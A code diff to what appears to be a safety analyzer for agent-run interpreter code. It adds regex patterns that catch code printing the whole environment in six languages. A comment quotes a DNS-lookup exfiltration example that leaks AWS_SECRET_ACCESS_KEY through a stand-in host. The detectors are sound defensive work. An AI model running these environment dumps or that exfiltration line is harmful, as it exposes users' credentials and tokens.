@@ -2025,6 +2025,16 @@ function secretEnvInRequest(code: string): boolean {
   return false;
 }
 
+/** Code that prints the whole environment, by language (an object printed, converted or serialized whole; a member read is not). */
+const ENV_DUMP_CODE: Partial<Record<Language, RegExp>> = {
+  node: /(?:console\.(?:log|dir|info|table|error)|JSON\.stringify|util\.inspect|process\.stdout\.write)\(\s{0,4}(?:\{\s{0,4}\.\.\.)?process\.env\s{0,4}[,)}]|^\s{0,4}\(?\s{0,4}process\.env\s{0,4}\)?\s{0,4};?\s{0,4}$|Object\.(?:entries|keys|values)\(\s{0,4}process\.env\s{0,4}\)\s{0,4}\.(?:forEach|map)\([^)]{0,200}console\.log/,
+  python: /(?:print|pprint|json\.dumps)\(\s{0,4}(?:dict\(\s{0,4})?os\.environ\s{0,4}(?:\.copy\(\s{0,4}\)\s{0,4})?\)|for\s+\w+\s*(?:,\s*\w+\s*)?in\s+os\.environ(?:\.items\(\))?\s*:\s*print\(/,
+  ruby: /(?:\bp|\bpp|\bputs|\bprint)\s*\(?\s{0,4}ENV(?:\.to_h|\.to_a|\.inspect)?\s{0,4}\)?\s{0,4}(?:$|;)|ENV\.each\s*\{[^}]{0,200}puts/m,
+  perl: /print\s+(?:map\s*\{[^}]{0,200}\}\s*)?(?:sort\s+)?(?:keys\s+)?%ENV\b(?!\s*\{)|Dumper\s*\(\s*\\%ENV\s*\)/,
+  php: /(?:print_r|var_dump|var_export|json_encode)\(\s{0,4}(?:\$_ENV|\$_SERVER|getenv\(\s{0,4}\))\s{0,4}[,)]/,
+  powershell: /\b(?:get-childitem|gci|dir|ls|get-item)\s+(?:-path\s+)?['"]?env:\\?\*?['"]?(?:\s|$|\|)|\[(?:system\.)?environment\]::getenvironmentvariables\(\s*\)/i,
+};
+
 export function analyzeInterpreterCode(lang: Language, code: string, ctx: CodeContext): void {
   if (ctx.depth > MAX_DEPTH) {
     ctx.analyzer.hit('unparseable', 'ask', ctx.segment, `interpreter code nested more than ${MAX_DEPTH} levels deep`);
@@ -2034,6 +2044,9 @@ export function analyzeInterpreterCode(lang: Language, code: string, ctx: CodeCo
     ctx.analyzer.hit('unparseable', 'ask', ctx.segment, `interpreter code longer than ${MAX_CODE} characters`);
     return;
   }
+  // The whole environment printed (`console.log(process.env)`, `print(os.environ)`, `gci env:`): every token in it goes to the transcript.
+  const dump = ENV_DUMP_CODE[lang];
+  if (dump && dump.test(code) && ctx.depth <= MAX_DEPTH) ctx.analyzer.hit('env-dump', 'ask', ctx.segment, `${lang} code prints every environment variable, tokens included, into the transcript`);
   if (lang === 'powershell') return;
   // A name looked up that holds a secret variable (`gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example')`):
   // the secret leaves in the DNS query, whatever the code does with the answer.
